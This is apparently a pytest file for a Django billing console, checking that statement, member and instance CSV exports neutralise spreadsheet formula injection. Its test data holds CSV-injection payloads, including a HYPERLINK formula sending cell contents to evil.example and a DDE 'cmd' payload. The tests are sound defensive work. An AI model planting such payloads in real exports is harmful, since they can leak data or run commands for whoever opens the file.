"""Every CSV the console writes (a statement, its breakdowns per member and per instance) neutralises a
cell that a spreadsheet would read as a formula: free text typed by a user (an instance's name, a
member's display name, a meter's description) starting with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return gets a leading ``'``, so opening the export never runs ``=HYPERLINK(…)`` or DDE."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
from django.utils import timezone

from billing.services import meter_start, meter_stop, sku_upsert
from billing.settlement import meters_settle_all
from billing.tests.helpers import topup
from instances.models import Instance
from instances.tests.conftest import catalogue, running  # noqa: F401 (a fixture, and a helper)
from teams import services as teams_services
from teams.tests.conftest import add_member

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\tx", "\rx"]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def _rows(response) -> list[list[str]]:
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.content.decode(), newline="")))


def _assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            if cell.startswith(DANGEROUS):
                # A plain number (a negative amount) is no formula; anything else is.
                float(cell)


@pytest.mark.parametrize("text", FORMULAS)
def test_a_statement_csv_cell_cannot_start_a_formula(alice, alice_client, text):
    sku = sku_upsert(code="gpu-a800", name="A800 80GB", unit="card-hour", price_fen=190, unit_seconds=3600)
    topup(alice, 10_000)
    start = timezone.now() - timedelta(hours=1)
    meter_start(user=alice, sku=sku, quantity=1, ref=text, description=text, at=start)
    meter_stop(ref=text, at=start + timedelta(seconds=600))
    month = f"{timezone.localdate():%Y-%m}"
    statement = _rows(alice_client.get(f"/billing/statements/{month}.csv"))
    assert statement[1][1] == statement[1][2] == "'" + text
    _assert_no_formula(statement)
    by_instance = _rows(alice_client.get(f"/billing/statements/{month}/instances.csv"))
    assert by_instance[1][1] == "'" + text
    _assert_no_formula(by_instance)


def test_a_team_members_display_name_cannot_start_a_formula_in_the_members_csv(
    alice,
    bob,
    client_for,
    catalogue,  # noqa: F811 (the fixture imported above)
):
    team = teams_services.team_create(user=alice, name="Lab")
    add_member(team, bob)
    bob.display_name = '=HYPERLINK("http://evil.example")'
    bob.save(update_fields=["display_name"])
    topup(team.account, 1_000_000)
    instance = running(team.account, name="bobs-run")
    Instance.objects.filter(pk=instance.pk).update(created_by=bob, name="@evil")
    meters_settle_all(now=timezone.now() + timedelta(hours=1))
    client = client_for(alice)
    assert client.post("/teams/switch/", {"team": team.slug}).status_code == 302
    month = f"{timezone.localdate():%Y-%m}"
    members = _rows(client.get(f"/billing/statements/{month}/members.csv"))
    assert "'" + bob.display_name in {row[1] for row in members[1:]}
    _assert_no_formula(members)
    instances = _rows(client.get(f"/billing/statements/{month}/instances.csv"))
    assert ("'@evil", "'" + bob.display_name) in {(row[1], row[2]) for row in instances[1:]}
    _assert_no_formula(instances)
